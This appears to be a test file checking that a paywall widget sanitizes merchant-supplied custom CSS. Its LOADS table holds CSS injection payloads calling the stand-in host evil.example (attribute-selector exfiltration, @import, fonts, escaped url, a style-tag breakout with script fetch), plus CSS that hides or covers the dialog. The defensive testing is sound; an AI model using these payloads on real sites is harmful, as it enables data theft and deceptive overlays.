import { beforeEach, expect, test } from "vitest";
import { useHostPage } from "./host-page.ts";

const host = useHostPage({ paywall: { checkoutMode: "guest" } });

let foreign: string[] = [];
beforeEach(async () => {
  foreign = [];
  await host.context.route(/evil\.example/, (route) => {
    foreign.push(route.request().url());
    return route.abort();
  });
});

async function showPlans() {
  // Movement would be measured in the middle of it.
  await host.page.emulateMedia({ reducedMotion: "reduce" });
  await host.start({ auth: true });
  await host.open();
  await host.waitForView("layout");
  await host.page.locator(".cta").waitFor();
}

/** Puts a style sheet in as a server would that forgot to look at it, and says what became of it. */
const dress = (css: string) =>
  host.page.evaluate((custom_css) => {
    const root = document.querySelector("[data-paywall-host]")!.shadowRoot!;
    const before = new Set(root.adoptedStyleSheets);
    window.pw.setBootstrap({ settings: { custom_css } });
    const added = root.adoptedStyleSheets.filter((sheet) => !before.has(sheet));
    return added.flatMap((sheet) => [...sheet.cssRules].map((rule) => rule.cssText.replace(/\s+/g, " ")));
  }, css);

const style = (selector: string, name: string) =>
  host.page
    .locator(selector)
    .first()
    .evaluate((it, property) => getComputedStyle(it).getPropertyValue(property), name);

test("the merchant's style sheet is applied over ours, inside the paywall only", async () => {
  host.use(
    await host.server.sell({
      checkoutMode: "guest",
      customCss: `.primary { text-transform: uppercase; border-radius: 3px }
        .plan[aria-checked="true"] { background-color: rgb(1 2 3) }
        @media (prefers-color-scheme: dark) { .card { background-color: rgb(4 5 6) } }
        @supports (color: red) { .heading.l1 { letter-spacing: 2px } }
        p { color: rgb(9 9 9) }
        .secondary { border: 1px solid var(--pw-line, rgb(7 7 7)) }`,
    }),
  );
  await showPlans();
  expect(await style(".cta", "text-transform")).toBe("uppercase");
  expect(await style(".cta", "border-top-left-radius")).toBe("3px");
  expect(await style(".plan[aria-checked=true]", "background-color")).toBe("rgb(1, 2, 3)");
  expect(await style(".heading.l1", "letter-spacing")).toBe("2px");
  expect(
    await host.page.evaluate(() => getComputedStyle(document.querySelector("body > p")!).color),
  ).not.toBe("rgb(9, 9, 9)");
  await host.page.emulateMedia({ colorScheme: "dark" });
  expect(await style(".card", "background-color")).toBe("rgb(4, 5, 6)");
});

test("a view that is fetched later does not come before the merchant's style sheet", async () => {
  host.use(await host.server.sell({ customCss: "input { background-color: rgb(1 2 3) }" }));
  await showPlans();
  await host.page.evaluate(() => window.pw.openSignin());
  await host.page.locator("input").first().waitFor();
  expect(await style("input", "background-color")).toBe("rgb(1, 2, 3)");
});

test("a changed or withdrawn style sheet takes effect while the paywall is open", async () => {
  await showPlans();
  await dress(".cta { color: rgb(1 2 3) }");
  expect(await style(".cta", "color")).toBe("rgb(1, 2, 3)");
  await dress(".cta { color: rgb(4 5 6) }");
  expect(await style(".cta", "color")).toBe("rgb(4, 5, 6)");
  expect(await dress("")).toEqual([]);
  expect(await style(".cta", "color")).toBe("rgb(255, 255, 255)");
});

const LOADS = {
  "by url": ".card { background-image: url(//evil.example/a) }",
  "by attribute selector":
    'input[value^="a"] { background: url("https://evil.example/a") } input[value$="b"] { color: red }',
  "by an image set": '.card { background-image: image-set("https://evil.example/a" 1x) }',
  "by a property of one's own": ".card { --pw-x: url(//evil.example/a); background-image: var(--pw-x) }",
  "by a fallback": ".card { background: var(--none, url(//evil.example/a)) }",
  "by a fallback beside another value":
    ".card { background: var(--none, url(//evil.example/a)); background-color: red }",
  "by a fallback in capitals": ".card { background: var(--none, URL(//evil.example/a)) }",
  "spelled with escapes":
    ".card { background: \\75 rl(//evil.example/a); --pw-y: \\75 rl(//evil.example/b) } .cta { background: var(--pw-y) }",
  "by an import": '@import "https://evil.example/a.css"; @import url(//evil.example/b.css);',
  "by a font": "@font-face { font-family: x; src: url(//evil.example/a) } * { font-family: x }",
  "by a namespace": "@namespace url(https://evil.example/a);",
  "in a layer": "@layer x { .card { background: url(//evil.example/a) } }",
  nested:
    ".card { & .cta { background: url(//evil.example/a) } .plan { background: url(//evil.example/b) } }",
  "in a media query": "@media all { .card { background: url(//evil.example/a) } }",
  "by a cursor": "* { cursor: url(//evil.example/a), auto }",
  "by a filter":
    ".card { filter: url(//evil.example/a.svg#x); mask: url(//evil.example/b.svg#x); clip-path: url(//evil.example/c#x) }",
  "by content": ".card::before { content: url(//evil.example/a) }",
  "by a border or a shape":
    ".card { border-image: url(//evil.example/a) 1; list-style: url(//evil.example/b); shape-outside: url(//evil.example/c) }",
  "by a cross fade":
    ".card { background-image: -webkit-cross-fade(url(//evil.example/a), url(//evil.example/b), 50%) }",
  "as markup": '</style><img src="//evil.example/a"><script>fetch("//evil.example/b")</script>',
};

test.each(Object.entries(LOADS))("nothing is loaded %s", async (_, css) => {
  await showPlans();
  const kept = await dress(css);
  expect(kept.join(" ")).not.toMatch(/evil|@/);
  await host.page.evaluate(() => window.pw.openSignin());
  await host.page.locator("input[type=email]").fill("ab");
  await host.page.evaluate(
    () => new Promise((next) => requestAnimationFrame(() => requestAnimationFrame(next))),
  );
  expect(foreign).toEqual([]);
});

test("nothing leaves the dialog, hides it or covers what it says", async () => {
  await showPlans();
  const box = () => host.page.locator(".card").boundingBox();
  const before = await box();
  const kept = await dress(`:host { display: none !important; position: static !important }
    :host([data-paywall-host]) { z-index: 0 } :root { opacity: 0 } ::slotted(*) { color: red } ::part(x) { color: red }
    .card { position: fixed; inset: 0; top: -900px; transform: translateX(-900px); translate: 9px; rotate: 9deg; scale: 9 }
    .overlay { position: static; z-index: 0; display: none; visibility: hidden; opacity: 0; pointer-events: none }
    .close, .charge, .test-badge { display: none !important; clip-path: inset(50%); opacity: 0; height: 0 }
    .card::before { content: "free"; position: fixed; inset: 0 }
    dialog::backdrop { background-color: red }
    @keyframes x { to { transform: translateX(9px) } } .card { animation: x 1s infinite }
    @property --pw-z { syntax: "<color>"; inherits: true; initial-value: red }`);
  expect(kept).toEqual([]);
  expect(await box()).toEqual(before);
});

test("a style sheet that is too large or not one at all is left out, and the paywall shows as ever", async () => {
  await showPlans();
  const large = `.cta { color: rgb(1 2 3) } /* ${"x".repeat(5120)} */`;
  expect(await dress(large)).toEqual([]);
  expect(await dress("}}}{{{ \u0000 <!-- --> @media ( { ;; : } \uFFFF")).toEqual([]);
  expect(await dress(`.cta { color: ${"(".repeat(5000)}`)).toEqual([]);
  expect(await dress("{".repeat(5000))).toEqual([]);
  expect(await style(".cta", "color")).toBe("rgb(255, 255, 255)");
  await host.cta().waitFor();
});
